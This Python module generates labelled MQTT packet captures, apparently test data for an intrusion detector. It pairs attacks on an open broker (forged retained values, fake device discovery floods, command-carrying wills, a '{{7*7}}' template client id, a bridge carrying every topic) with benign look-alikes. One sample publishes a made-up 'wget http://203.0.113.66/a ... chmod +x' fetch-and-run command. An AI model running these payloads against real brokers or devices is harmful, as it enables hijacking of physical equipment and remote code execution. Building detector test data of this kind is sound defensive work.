"""What is retained, wills, commands and contents: what attackers do with them, and the honest cases near to it."""

import time

from .device import V5, Device
from .lab import BROKER, CLIENTS, OUTSIDE_SERVER, run
from .mqtt_violations import OPEN
from .samples import sample
from .wire import DISCONNECT, RawClient, packet, publish, subscribe, text


def with_will(client_id, topic, message="offline", *, level=4, retain=False, properties=b""):
    """A CONNECT with a will, of a named user."""
    body = text("MQTT") + bytes([level, 0x86 | (0x20 if retain else 0)]) + b"\0\x3c"
    body += b"\0" if level == 5 else b""
    body += text(client_id) + (bytes([len(properties)]) + properties if level == 5 else b"")
    return packet(0x10, body + text(topic) + text(message) + text("device"))


@sample("mqtt/kept-values-replaced.pcap", {"mqtt_retained_replaced": 1, "mqtt_retained_taken_over": 1},
        rows={"mqtt_retained_taken_over": 1})
def kept_values_replaced(lab, name):
    """A gateway keeps 25 values, and another host replaces each (own bytes)."""
    with lab.broker(OPEN), lab.capture(name):
        with RawClient(CLIENTS[52]) as gateway:
            gateway.enter("gateway", username="gateway")
            gateway.send(*[publish(f"hall/{n}/level", b"20", retain=True) for n in range(25)], pause=0.01)
        with RawClient(CLIENTS[53]) as attacker:
            attacker.enter("forger", username="forger")
            attacker.send(*[publish(f"hall/{n}/level", b"99", retain=True) for n in range(25)], pause=0.01)


@sample("mqtt/kept-values-renewed.pcap", {})
def kept_values_renewed(lab, name):
    """A gateway renews 25 values that it keeps, on a second connection from the same address (own bytes)."""
    with lab.broker(OPEN), lab.capture(name):
        for value in (b"20", b"21"):
            with RawClient(CLIENTS[54]) as gateway:
                gateway.enter("gateway", username="gateway")
                gateway.send(*[publish(f"hall/{n}/level", value, retain=True) for n in range(25)], pause=0.01)
                gateway.send(DISCONNECT)


@sample("mqtt/discovery-flood.pcap.zst", {"mqtt_retained_discovery_flood": 1, "mqtt_retained_many": 1})
def discovery_flood(lab, name):
    """One host announces 450 devices to Home Assistant that do not exist (own bytes)."""
    with lab.broker(OPEN), lab.capture(name), RawClient(CLIENTS[55]) as attacker:
        attacker.enter("announcer", username="announcer")
        for turn in range(45):
            attacker.send(b"".join(publish(f"homeassistant/switch/fake{10 * turn + n}/config", b"{}", retain=True)
                                   for n in range(10)), pause=0.02)


@sample("mqtt/grab-and-go.pcap.zst", {"mqtt_kept_read": 1, "mqtt_retained_harvest": 1, "mqtt_subscribe_vertical": 1},
        rows={"mqtt_retained_harvest": 1, "mqtt_subscribe_vertical": 1})
def grab_and_go(lab, name):
    """mosquitto_sub -t 'site/#' --retained-only takes 320 retained values and leaves."""
    with lab.broker(OPEN):
        with Device("filler", CLIENTS[60]) as filler:
            for turn in range(320):
                filler.publish(f"site/hall{turn % 4}/machine{turn // 4}/temperature", "20.5", retain=True)
        with lab.capture(name):
            run("mosquitto_sub", "-h", BROKER, "-A", CLIENTS[56], "-i", "taker", "-u", "taker", "-t", "site/#",
                "--retained-only", "-C", "320")


@sample("mqtt/will-commands.pcap", {"mqtt_will_command": 3})
def will_commands(lab, name):
    """Three hosts whose wills are commands: to a valve, to a Tasmota plug and to a Sparkplug node; then they vanish (own bytes)."""
    with lab.broker(OPEN), lab.capture(name):
        for number, topic in enumerate(("valve/1/set", "cmnd/plug1/POWER", "spBv1.0/hall/NCMD/edge-1")):
            with RawClient(CLIENTS[57 + number]) as attacker:
                attacker.send(with_will(f"late{number}", topic, "open"), pause=0)
                attacker.read()


@sample("mqtt/will-outlives.pcap", {"mqtt_will_outlives": 1})
def will_outlives(lab, name):
    """A client of 5.0 whose will waits an hour while its session ends at once, as for CVE-2026-85058 (own bytes)."""
    with lab.broker(OPEN), lab.capture(name), RawClient(CLIENTS[61]) as attacker:
        attacker.send(with_will("outlives", "hall/door", level=5, properties=b"\x18\0\0\x0e\x10"), pause=0)
        attacker.read()


@sample("mqtt/ordinary-wills.pcap", {})
def ordinary_wills(lab, name):
    """Three devices with their presence as their wills: one goes without a word, one says itself that it goes, and one of 5.0
    has a will that waits no longer than its session (own bytes, paho)."""
    with lab.broker(OPEN), lab.capture(name):
        for number in range(2):
            with RawClient(CLIENTS[62 + number]) as device:
                device.send(with_will(f"lamp{number}", f"lamp/{number}/LWT", retain=True), pause=0)
                device.read()
                device.send(publish(f"lamp/{number}/LWT", b"online", retain=True))
                if number:
                    device.send(publish(f"lamp/{number}/LWT", b"offline", retain=True), DISCONNECT)
        with Device("lamp2", CLIENTS[64], username="device", protocol=V5,
                    will={"topic": "lamp/2/LWT", "payload": "offline"}) as device:
            device.publish("lamp/2/state", "on")


@sample("mqtt/gone-by-another.pcap", {"mqtt_retained_replaced": 1, "mqtt_state_of_another": 1, "mqtt_state_spoofed": 1},
        rows={"mqtt_retained_replaced": 1, "mqtt_state_spoofed": 1})
def gone_by_another(lab, name):
    """Four lamps with their presence as their wills, and a host that reports each of them gone (own bytes)."""
    with lab.broker(OPEN), lab.capture(name):
        lamps = []
        for number in range(4):
            lamps.append(RawClient(CLIENTS[65 + number]))
            lamps[-1].send(with_will(f"lamp{number}", f"tele/lamp{number}/LWT", "Offline", retain=True), pause=0)
            lamps[-1].read()
            lamps[-1].send(publish(f"tele/lamp{number}/LWT", b"Online", retain=True))
        with RawClient(CLIENTS[69]) as attacker:
            attacker.enter("undertaker", username="undertaker")
            attacker.send(*[publish(f"tele/lamp{n}/LWT", b"Offline", retain=True) for n in range(4)])
        for lamp in lamps:
            lamp.send(DISCONNECT)
            lamp.socket.close()


@sample("mqtt/tasmota-queries.pcap", {"mqtt_tasmota_query": 1})
def tasmota_queries(lab, name):
    """Empty messages that ask a Tasmota device for its settings, none of them a secret (paho)."""
    with lab.broker(OPEN), lab.capture(name), Device("curious", CLIENTS[70], username="curious") as client:
        for word in ("Status", "Module", "Topic"):
            client.publish(f"cmnd/plug1/{word}")


@sample("mqtt/tasmota-switched.pcap", {})
def tasmota_switched(lab, name):
    """A panel switches a Tasmota plug and asks for its state (paho)."""
    with lab.broker(OPEN), lab.capture(name), Device("panel", CLIENTS[71], username="panel") as client:
        client.subscribe("stat/plug1/+")
        for word in ("ON", "OFF", ""):
            client.publish("cmnd/plug1/POWER", word)


@sample("mqtt/dollar-topics.pcap", {"mqtt_dollar_topic": 1})
def dollar_topics(lab, name):
    """Messages to $test/x, as for CVE-2018-12543, and to the name of a cloud at a broker inside (own bytes)."""
    with lab.broker(OPEN), lab.capture(name), RawClient(CLIENTS[72]) as attacker:
        attacker.enter("dollar", username="dollar")
        attacker.send(publish("$test/x", b"x"), publish("$aws/x", b"x"))


@sample("mqtt/cloud-topics.pcap", {"mqtt_broker_outside": 1})
def cloud_topics(lab, name):
    """Devices of two clouds outside, which publish to $aws/things/ and $iothub/ as these clouds have it (own bytes)."""
    with lab.broker(OPEN), lab.capture(name), RawClient(CLIENTS[73], server=OUTSIDE_SERVER) as device:
        device.enter("cloud", username="cloud")
        device.send(publish("$aws/things/lamp/shadow/update", b"{}"), publish("$iothub/twin/GET/?$rid=1", b""))


@sample("mqtt/shell.pcap", {"payload_fetch_and_run": 1, "payload_shell_output": 1, "payload_shell_words": 1},
        rows={"payload_shell_output": 1})
def shell(lab, name):
    """Somebody runs commands over a broker: what is asked, and what a shell answers (paho; made up)."""
    with lab.broker(OPEN), lab.capture(name), Device("operator", CLIENTS[74], username="remote-hand") as client:
        client.publish("x7/in", "wget http://203.0.113.66/a -O /tmp/a; chmod +x /tmp/a")
        client.publish("x7/out", "uid=0(root) gid=0(root) groups=0(root)")


@sample("mqtt/talk-of-shells.pcap", {})
def talk_of_shells(lab, name):
    """A log that mentions ssh, a user id, a web request and templates, and runs nothing (paho)."""
    with lab.broker(OPEN), lab.capture(name), Device("logger", CLIENTS[75], username="logger") as client:
        for line in ('{"app":"sshd","msg":"Accepted publickey for root uid 0"}', '{"request":"/status","agent":"curl/8.5"}',
                     '{"template":"{{ value_json.temperature }}"}', "the shell of the boiler is 4 mm thick"):
            client.publish("logs/host1", line)


@sample("mqtt/template-names.pcap", {"mqtt_template_in_identity": 1})
def template_names(lab, name):
    """A client whose id is a template that a console might evaluate (own bytes)."""
    with lab.broker(OPEN), lab.capture(name), RawClient(CLIENTS[76]) as attacker:
        attacker.enter("{{7*7}}", username="t")


@sample("mqtt/odd-names.pcap", {})
def odd_names(lab, name):
    """Names with brackets, quotes, dots and the like in them, all harmless: a lamp, and O'Hara (own bytes)."""
    with lab.broker(OPEN), lab.capture(name), RawClient(CLIENTS[77]) as client:
        client.enter("lamp [3] <left> & {b}", username="o'hara")
        client.send(subscribe("hall/prototype/[3]"), publish("hall/construct.or/'a'", b"1"))
        client.read()


@sample("mqtt/deep-names.pcap", {"mqtt_topic_deep": 1})
def deep_names(lab, name):
    """A message on a topic of forty levels (own bytes)."""
    with lab.broker(OPEN), lab.capture(name), RawClient(CLIENTS[78]) as client:
        client.enter("deep", username="deep")
        client.send(publish("/".join("abcd" * 10), b"1"))


@sample("mqtt/bridge-of-all.pcap", {"mqtt_bridge": 1, "mqtt_bridge_carries_all": 1})
def bridge_of_all(lab, name):
    """Two Mosquitto brokers, one bridging every topic of the other (topic # both)."""
    bridge = ("connection everything", f"address {BROKER}:1883", "topic # both 0", "remote_clientid everything",
              "remote_username bridge", f"bridge_bind_address {CLIENTS[79]}")
    with lab.broker(OPEN), lab.capture(name), lab.broker("listener 1884 127.0.0.1", OPEN, *bridge, port=1884, here=True):
        time.sleep(2)
